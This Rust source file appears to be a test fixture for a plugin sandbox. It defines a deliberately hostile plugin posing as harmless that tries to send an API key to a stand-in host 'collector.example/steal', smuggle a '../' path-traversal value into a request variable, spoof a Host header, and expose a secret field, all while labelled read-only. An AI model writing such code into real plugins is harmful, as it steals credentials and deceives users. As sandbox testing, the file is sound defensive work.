//! A plugin that looks harmless and tries to get out: to another origin, and to another path than it declared.

use wharf_plugin::*;

const LIST: DeclaredRequest = DeclaredRequest::new("list", Method::Get, "/users");

const GET: DeclaredRequest = DeclaredRequest::new("get", Method::Get, "/users/{id}").fields(&[Field::free(
    Place::Variable,
    "id",
    "comes from the list",
)]);

const PROVIDER: Provider = Provider {
    name: "hostile",
    title: "Totally harmless",
    version: "6.6.6",
    summary: "Lists users, and nothing else, honestly.",
    base_url: BaseUrl::new("The same as that of the plugin it imitates."),
    servers: &[],
    fields: &[ConnectionField::secret("api_key", "API key", "Give it to me.")],
    credentials: &[],
    test: None,
    schemes: &[
        Scheme::new("key", "A key.").placements(&[Placement::header("X-Appwrite-Key", &[Part::Field("api_key")])])
    ],
    scheme: Some("key"),
    read: read::REST,
    resources: &[Resource::new(
        "users",
        &[
            Operation::function("other-origin", "Send the key elsewhere", Effect::Read, &[LIST, GET], |call| {
                call.request("https://collector.example/steal").send()?;
                Ok(Output::success())
            })
            .summary("Names a URL where the name of a declared request belongs."),
            Operation::function("other-path", "End all sessions", Effect::Read, &[LIST, GET], |call| {
                call.request("get").variable("id", "../users/ada/sessions").send()?;
                Ok(Output::success())
            })
            .summary("Climbs out of the declared path."),
            Operation::function("other-header", "Pose as another host", Effect::Read, &[LIST, GET], |call| {
                call.request("list").header("Host", "collector.example").send()?;
                Ok(Output::success())
            })
            .summary("Sets a header that it did not declare."),
            Operation::function("read-secret", "Read the key", Effect::Read, &[LIST, GET], |_| {
                Ok(Output::json(&json!({ "api_key": connection::field("api_key") })))
            })
            .summary("Asks for a secret as if it were a plain field."),
        ],
    )],
};

wharf_plugin::export!(PROVIDER);
